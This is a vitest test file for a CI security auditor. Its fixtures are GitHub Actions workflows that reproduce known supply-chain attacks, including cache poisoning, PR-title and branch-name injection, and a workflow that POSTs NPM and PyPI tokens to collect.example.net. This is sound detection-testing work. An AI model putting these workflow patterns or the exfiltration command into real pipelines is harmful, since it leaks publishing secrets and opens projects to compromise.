import { describe, expect, test } from 'vitest';
import { createAudit } from '../audit/create-audit.ts';
import { runRules } from '../audit/run-rules.ts';
import { withoutCovered } from '../audit/without-covered.ts';
import { CollectedFiles } from '../collected-files.ts';
import { readPipelines } from '../read-pipelines.ts';
import { pipelineRules } from '../rules/all.ts';

/** What is reported of at least high severity, and the files and sentences of the attack paths among it. */
function audit(workflows: Readonly<Record<string, string>>) {
  const files = new CollectedFiles();
  for (const [name, text] of Object.entries(workflows)) files.add(`.github/workflows/${name}`, text);
  const all = runRules(pipelineRules, readPipelines(files), createAudit(files, new Date('2026-06-01')));
  const issues = withoutCovered([...all]).flatMap(({ rule, verdict }) =>
    'undecided' in verdict
      ? []
      : [{ id: rule.id.replace('pipeline/', ''), ...verdict, severity: verdict.severity ?? rule.severity }],
  );
  const severe = issues.filter(({ severity }) => severity === 'critical');
  const paths = issues.filter(({ id }) => id === 'attack-path');
  const lines = paths.flatMap(({ path = [] }) =>
    path.map(
      ({ at, message }) =>
        `${at.source.uri.replace('.github/workflows/', '')}:${at.source.position(at.start).line} ${message}`,
    ),
  );
  return { severe: severe.map(({ id }) => id), confidence: paths.map(({ confidence }) => confidence), lines };
}

const sha = 'a1'.repeat(20);
const store = `      - uses: actions/cache@${sha} # v4.2.3
        with:
          path: ~/.pnpm-store
          key: \${{ runner.os }}-pnpm-store-\${{ hashFiles('**/pnpm-lock.yaml') }}
`;

test('a cache that a pull request fills, a release that restores it: one finding over both workflows', () => {
  const { severe, lines, confidence } = audit({
    'bundle-size.yml': `name: bundle size
on: pull_request_target
permissions:
  contents: read
jobs:
  benchmark:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@${sha} # v4.2.2
        with:
          ref: refs/pull/\${{ github.event.pull_request.number }}/merge
          persist-credentials: false
${store}      - run: pnpm install --frozen-lockfile && pnpm build
`,
    'release.yml': `on:
  push:
    branches: [main]
permissions:
  contents: read
jobs:
  release:
    runs-on: ubuntu-24.04
    permissions:
      id-token: write
    steps:
      - uses: actions/checkout@${sha} # v4.2.2
        with:
          persist-credentials: false
${store}      - run: pnpm install --frozen-lockfile
      - run: pnpm publish --provenance
`,
  });
  expect(severe).toEqual(['attack-path']);
  expect(confidence).toEqual(['proven']);
  expect(lines).toEqual([
    'bundle-size.yml:2 pull request of a fork, run with rights: benchmark (bundle-size.yml) is started',
    'bundle-size.yml:9 the code of the pull request is fetched',
    'bundle-size.yml:17 and run',
    'bundle-size.yml:13 the cache of actions/cache is saved for the default branch, with what that code left in it',
    'release.yml:15 release (release.yml) restores it (actions/cache) and goes on with what is in it',
    'release.yml:20 release (release.yml) publishes by pnpm publish',
  ]);
});

test('a name of a branch becomes code, and the release restores what it saved (ultralytics, 2024)', () => {
  const { severe, lines } = audit({
    'format.yml': `on: [pull_request_target]
permissions: { contents: read }
jobs:
  format:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          git config user.name bot
          git pull origin \${{ github.head_ref || github.ref }}
`,
    'publish.yml': `on: { push: { tags: ['v*'] } }
permissions: { contents: read, id-token: write }
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/setup-python@${sha} # v5.6.0
        with: { cache: pip }
      - run: python -m build
      - uses: pypa/gh-action-pypi-publish@${sha} # v1.12.4
`,
  });
  expect(severe).toEqual(['attack-path']);
  expect(lines.at(-1)).toBe('publish.yml:10 publish (publish.yml) publishes by pypa/gh-action-pypi-publish');
});

test('a title becomes code, and its token starts the workflow that publishes (nx, 2025)', () => {
  const { severe, lines } = audit({
    'pr-title.yml': `on: { pull_request_target: { types: [opened, edited] } }
permissions: write-all
jobs:
  validate:
    runs-on: ubuntu-24.04
    steps:
      - run: |
          echo "title=\${{ github.event.pull_request.title }}" > message
          node check-title.js message
`,
    'publish.yml': `on: { workflow_dispatch: { inputs: { pr: { type: number } } } }
permissions: { contents: read }
jobs:
  publish:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@${sha} # v4.2.2
      - run: npm publish
        env: { NODE_AUTH_TOKEN: '\${{ secrets.NPM_TOKEN }}' }
`,
  });
  expect(severe).toEqual(['attack-path']);
  expect(lines.slice(-3)).toEqual([
    'pr-title.yml:2 the token of validate (pr-title.yml) may write branches and start workflows',
    'publish.yml:1 it starts publish (publish.yml) on a branch of its own',
    'publish.yml:8 publish (publish.yml) publishes by npm publish',
  ]);
});

test('a fork’s code stays on a machine where a nightly build has secrets (PyTorch, 2023)', () => {
  const build = (on: string, more: string): string =>
    `on: ${on}\njobs:\n  build:\n    runs-on: [self-hosted, linux.arm64]\n    steps:\n      - uses: actions/checkout@${sha} # v4.2.2\n      - run: make\n${more}`;
  const { lines, confidence } = audit({
    'pull.yml': build('pull_request', ''),
    'nightly.yml': build(
      "{ schedule: [{ cron: '0 4 * * *' }] }",
      '        env: { TOKEN: "${{ secrets.UPLOAD_TOKEN }}" }\n',
    ),
  });
  expect(confidence).toEqual(['medium']);
  expect(lines.slice(-3)).toEqual([
    'pull.yml:4 it runs on a machine of your own (self-hosted) and can stay there',
    'nightly.yml:4 build (nightly.yml) runs on the same machines',
    'nightly.yml:8 build (nightly.yml) has secrets.UPLOAD_TOKEN',
  ]);
});

describe('what a stolen account adds', () => {
  test('a workflow that sends every secret away (GhostAction, 2025)', () => {
    const { severe } = audit({
      'security.yml': `name: Security
on: push
jobs:
  send:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -s -X POST -d 'npm=\${{ secrets.NPM_TOKEN }}&pypi=\${{ secrets.PYPI_TOKEN }}' https://collect.example.net
`,
    });
    expect(severe).toContain('exfiltration');
  });

  test('a workflow that runs what a discussion says on a machine of the worm (Shai-Hulud, 2025)', () => {
    const { severe } = audit({
      'discussion.yaml': `name: Discussion Create
on: { discussion: null }
jobs:
  process:
    env: { RUNNER_TRACKING_ID: 0 }
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v5
      - name: Handle Discussion
        run: echo \${{ github.event.discussion.body }}
`,
    });
    expect(severe).toContain('template-injection');
  });

  test('a runner by the name that the worm gives it', () => {
    const { severe } = audit({
      'build.yaml': 'on: push\njobs:\n  a:\n    runs-on: SHA1HULUD\n    steps:\n      - run: make\n',
    });
    expect(severe).toEqual(['known-bad']);
  });
});
